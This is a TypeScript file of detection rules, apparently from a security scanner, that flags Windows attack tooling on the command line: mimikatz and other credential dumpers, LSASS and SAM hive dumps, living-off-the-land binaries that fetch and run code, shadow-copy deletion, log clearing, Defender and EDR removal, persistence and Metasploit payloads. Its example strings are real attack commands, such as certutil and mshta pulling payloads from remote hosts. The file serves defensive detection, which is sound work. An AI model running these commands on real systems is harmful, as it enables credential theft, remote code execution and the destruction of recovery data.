import type { TokenRule } from './token-rules.ts';

/**
 * Windows command-line tools and offensive tooling named on the command line: credential dumping
 * (mimikatz modules, LSASS dumps, hive saves), living-off-the-land binaries that fetch and run
 * code, and the commands ransomware runs to remove recovery and logs. Rules (see token-rules.ts):
 * cmd.exe has no grammar worth parsing, and these tools are recognised by their own names.
 */
const MIMIKATZ_MODULES = ['sekurlsa', 'lsadump', 'kerberos', 'dpapi', 'vault', 'crypto', 'token', 'ts', 'misc', 'privilege'];

export const WINDOWS_RULES: readonly TokenRule[] = [
  {
    id: 'win-mimikatz',
    rule: 'credential-dump',
    anchors: [...MIMIKATZ_MODULES.map((module) => `${module}::`), 'mimikatz'],
    pattern:
      /(?<![\w.])(?:sekurlsa|lsadump|kerberos|dpapi|vault|crypto|token|ts|misc|privilege)::(?:logonpasswords|minidump|pth|tickets|ekeys|wdigest|msv|sam|secrets|cache|dcsync|lsa|golden|silver|ptt|ptc|tgt|list|purge|ask|cred|masterkey|chrome|capi|cng|certificates|keys|elevate|sessions|remote|memssp|skeleton|debug|backupkeys|trust)\b|(?:invoke-)?mimikatz\b/iy,
    reference: 'mimikatz modules (gentilkiwi/mimikatz wiki); InternalAllTheThings mimikatz cheatsheet',
    examples: { flagged: ['privilege::debug\nsekurlsa::logonpasswords', '.\\mimikatz "kerberos::golden /domain:x /sid:S-1-5 /krbtgt:abc /ptt" exit'], clean: ['std::vector<int> v; Foo::bar();'] },
  },
  {
    id: 'win-credential-tools',
    rule: 'credential-dump',
    anchors: ['pypykatz', 'lazagne', 'secretsdump', 'invoke-kerberoast', 'get-gpppassword', 'forgecert', 'rubeus', 'certify', 'ntdsutil', 'ntds.dit', 'cpassword'],
    pattern:
      /(?:pypykatz|lazagne|secretsdump(?:\.py)?|invoke-kerberoast|get-gpppassword|forgecert(?:\.exe)?)\b|rubeus(?:\.exe)?\s{1,5}(?:asktgt|asktgs|kerberoast|asreproast|dump|s4u|ptt|golden|silver|tgtdeleg|harvest|monitor)\b|certify(?:\.exe)?\s{1,5}(?:request|find\s{1,5}\/vulnerable)\b|ntdsutil\b[^\n]{0,100}?\bifm\b|ntds\.dit\b|cpassword\b/iy,
    reference: 'InternalAllTheThings Active Directory credential attacks (Kerberoasting, DCSync, NTDS, GPP, ADCS)',
    examples: { flagged: ['Rubeus.exe kerberoast /outfile:hashes.txt', 'secretsdump.py -ntds ntds.dit -system SYSTEM LOCAL'], clean: ['Kerberos is an authentication protocol.'] },
  },
  {
    id: 'win-lsass-dump',
    rule: 'credential-dump',
    anchors: ['comsvcs', 'procdump', 'lsass'],
    pattern: /comsvcs(?:\.dll)?\b[^\n]{0,60}?\bminidump\b|procdump(?:64)?(?:\.exe)?\b[^\n]{0,80}?\s-ma\s[^\n]{0,40}?\blsass\b|lsass(?:\.exe)?\b[^\n]{0,60}?\.dmp\b/iy,
    reference: 'MITRE ATT&CK T1003.001 (LSASS memory)',
    examples: { flagged: ['rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full', 'procdump.exe -accepteula -ma lsass.exe out.dmp'], clean: ['procdump -ma 4242 app.dmp'] },
  },
  {
    id: 'win-process-dump-passwords',
    rule: 'credential-dump',
    score: 0.8,
    anchors: ['procdump'],
    pattern: /procdump(?:64)?(?:\.exe)?\b[^\n]{0,80}?\s-ma\b/iy,
    near: { patterns: [/\bpassword|\bcredential|\bstrings\s{1,5}-el\b|\bmimikatz|\bpypykatz/i], window: 300 },
    reference: 'InternalAllTheThings mimikatz cheatsheet (dump a process, then search its memory for passwords)',
    examples: { flagged: ['procdump64.exe -ma 988 -accepteula C:\\svchost.dmp\nstrings -el svchost* | grep Password123 -C3'], clean: ['procdump -ma 4242 app.dmp'] },
  },
  {
    id: 'win-hive-save',
    rule: 'credential-dump',
    anchors: ['reg ', 'reg.exe'],
    pattern: /reg(?:\.exe)?\s{1,5}(?:save|export)\s{1,5}hklm\\{1,2}(?:sam|security|system)\b/iy,
    reference: 'MITRE ATT&CK T1003.002 (SAM hive)',
    examples: { flagged: ['reg save HKLM\\SAM C:\\temp\\sam.save'], clean: ['reg query HKLM\\SOFTWARE\\Microsoft'] },
  },
  {
    id: 'win-lolbin-download',
    rule: 'download-execute',
    anchors: ['certutil', 'bitsadmin', 'mshta', 'regsvr32', 'rundll32', 'msiexec', 'regasm', 'regsvcs', 'installutil', 'msbuild', 'cmstp', 'odbcconf', 'msxsl', 'wmic', 'cscript', 'wscript', 'powershell', 'pwsh'],
    pattern:
      /certutil(?:\.exe)?\b[^\n]{0,80}?-(?:urlcache|verifyctl)\b[^\n]{0,120}?(?:https?:|\\\\)|bitsadmin(?:\.exe)?\b[^\n/]{0,60}\/(?:transfer|addfile)\b|mshta(?:\.exe)?\s{1,5}['"]?(?:https?:|javascript:|vbscript:|\\\\)|regsvr32(?:\.exe)?\b[^\n]{0,80}?\/i:\s{0,3}['"]?(?:https?:|\\\\)|rundll32(?:\.exe)?\b[^\n,]{0,60}(?:javascript:|url\.dll\s{0,3},|shell32\.dll\s{0,3},\s{0,3}shellexec_rundll|advpack\.dll\s{0,3},|pcwutl\.dll\s{0,3},)|msiexec(?:\.exe)?\b[^\n]{0,60}?\s\/(?:i|package)\s{1,5}['"]?(?:https?:|\\\\)|(?:regasm|regsvcs|installutil|msbuild|cmstp|odbcconf|msxsl)(?:\.exe)?\b[^\n]{0,150}?(?:https?:\/\/|\\{2,4}[\w.-]{1,60}\\)|wmic(?:\.exe)?\b[^\n]{0,80}?\bprocess\s{1,5}call\s{1,5}create\b|[cw]script(?:\.exe)?\b(?=[^\n]{0,80}?\/\/e:)[^\n]{0,80}?\s['"]?\\{2,4}[\w.-]{1,60}\\|(?:powershell|pwsh)(?:\.exe)?\b(?=[^\n]{0,120}?\s[-/](?:ep|exec|executionpolicy)\s{1,5}['"]?bypass\b)[^\n]{0,120}?\s[-/](?:f|file)\s{1,5}['"]?\\{2,4}[\w.-]{1,60}\\/iy,
    reference: 'LOLBAS project (certutil, bitsadmin, mshta, regsvr32, rundll32, msiexec, MSBuild, InstallUtil, cscript/wscript); MITRE ATT&CK T1218, T1059.001 (a script run from a remote share with its engine forced or the execution policy bypassed)',
    examples: {
      flagged: ['certutil.exe -urlcache -split -f http://10.0.0.1/shell.exe shell.exe', 'regsvr32 /s /n /u /i:http://example.com/file.sct scrobj.dll', 'mshta http://10.0.0.1/payload.hta', 'regasm.exe /u \\\\webdavserver\\folder\\payload.dll', 'cscript //E:jscript \\\\webdavserver\\folder\\payload.txt', 'powershell -exec bypass -f \\\\webdavserver\\folder\\payload.ps1'],
      clean: ['certutil -hashfile setup.exe SHA256', 'msiexec /i setup.msi /qn', 'cscript //nologo C:\\scripts\\inventory.vbs', 'cscript \\\\fileserver\\netlogon\\logon.vbs', 'powershell -ExecutionPolicy Bypass -File .\\build.ps1', 'powershell -File \\\\fileserver\\scripts\\logon.ps1'],
    },
  },
  {
    id: 'win-recovery-off',
    rule: 'disable-security',
    anchors: ['vssadmin', 'wmic', 'wbadmin', 'bcdedit'],
    pattern:
      /vssadmin(?:\.exe)?\s{1,5}(?:delete\s{1,5}shadows|resize\s{1,5}shadowstorage)\b|wmic(?:\.exe)?\b[^\n]{0,40}?\bshadowcopy\s{1,5}delete\b|wbadmin(?:\.exe)?\s{1,5}delete\s{1,5}(?:catalog|systemstatebackup|backup)\b|bcdedit(?:\.exe)?\b[^\n]{0,60}?\b(?:recoveryenabled\s{1,5}no|bootstatuspolicy\s{1,5}ignoreallfailures)\b/iy,
    reference: 'MITRE ATT&CK T1490 (Inhibit System Recovery)',
    examples: { flagged: ['vssadmin delete shadows /all /quiet', 'bcdedit /set {default} recoveryenabled No'], clean: ['vssadmin list shadows'] },
  },
  {
    id: 'win-event-log-clear',
    rule: 'disable-security',
    score: 0.75,
    anchors: ['wevtutil', 'clear-eventlog', 'remove-eventlog'],
    pattern: /wevtutil(?:\.exe)?\s{1,5}(?:cl|clear-log)\b|(?:clear|remove)-eventlog\b/iy,
    reference: 'MITRE ATT&CK T1070.001 (Clear Windows Event Logs)',
    examples: { flagged: ['wevtutil cl Security', 'Clear-EventLog -LogName Security'], clean: ['wevtutil qe System /c:5'] },
  },
  {
    id: 'win-defender-service-off',
    rule: 'disable-security',
    anchors: ['sc ', 'sc.exe', 'stop-service', 'net ', 'uninstall-windowsfeature', 'disableantispyware', 'disableantivirus', 'disablerealtimemonitoring'],
    pattern:
      /(?:sc(?:\.exe)?\s{1,5}(?:stop|delete|config)|stop-service|net\s{1,5}stop)\s{1,5}['"]?(?:windefend|sense|wdnissvc|wdboot|wdfilter)\b|uninstall-windowsfeature\b[^\n]{0,60}?defender|(?:disableantispyware|disableantivirus|disablerealtimemonitoring)\b[^\n]{0,80}?(?:\/d\s{1,5}1|\b1\b|\$true)/iy,
    reference: 'MITRE ATT&CK T1562.001 (Defender service and policy)',
    examples: { flagged: ['sc stop WinDefend', 'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f'], clean: ['Get-Service WinDefend'] },
  },
  {
    id: 'win-persistence-tools',
    rule: 'persistence',
    score: 0.75,
    anchors: ['sharpersist', '\\typelib', 'appcmd'],
    pattern: /sharpersist(?:\.exe)?\b|\\typelib\\{1,2}[^\n]{0,80}?\\win(?:32|64)\b|appcmd(?:\.exe)?\s{1,5}install\s{1,5}module\b/iy,
    near: { patterns: [/sharpersist|script:|\.sct\b|\/image:|\.dll\b|\bscrobj\b|\breg\b/i], window: 400 },
    reference: 'MITRE ATT&CK T1546.015 (COM TypeLib hijack), T1505.004 (IIS modules); SharPersist',
    examples: {
      flagged: ['SharPersist -t reg -c "C:\\Windows\\System32\\cmd.exe" -a "/c calc.exe" -k "hkcurun" -v "Test" -m add', 'C:\\Windows\\system32\\inetsrv\\APPCMD.EXE install module /name:x /image:"C:\\x\\IIS-Backdoor.dll" /add:true'],
      clean: ['appcmd list sites'],
    },
  },
  {
    id: 'win-edr-removal',
    rule: 'disable-security',
    score: 0.7,
    anchors: ['elastic-agent', 'elastic-endpoint', 'sentinelctl', 'falconctl', 'mdatp', 'cbagent', 'xagt'],
    pattern: /(?:elastic-agent|elastic-endpoint|sentinelctl|falconctl|mdatp|cbagent|xagt)(?:\.exe)?\s{1,5}(?:uninstall|unload|stop|disable|-d)\b/iy,
    reference: 'MITRE ATT&CK T1562.001 (disable or uninstall EDR agents)',
    examples: { flagged: ['.\\elastic-agent.exe uninstall'], clean: ['elastic-agent status'] },
  },
  {
    id: 'win-payload-generator',
    rule: 'reverse-shell',
    score: 0.85,
    anchors: ['meterpreter', 'shell_reverse', 'shell/reverse', 'shell_bind', 'shell/bind', 'exploit/multi/handler'],
    pattern: /meterpreter\b|shell[/_](?:reverse|bind)_(?:tcp|https?|udp|ipv6_tcp)\b|exploit\/multi\/handler\b/iy,
    reference: 'Metasploit payloads (msfvenom -p …/meterpreter/reverse_tcp) and handlers',
    examples: { flagged: ['msfvenom -p windows/meterpreter/reverse_tcp LHOST=10.10.10.10 LPORT=4444 -f exe > evil.exe', 'use exploit/multi/handler'], clean: ['Metasploit is a penetration-testing framework.'] },
  },
];
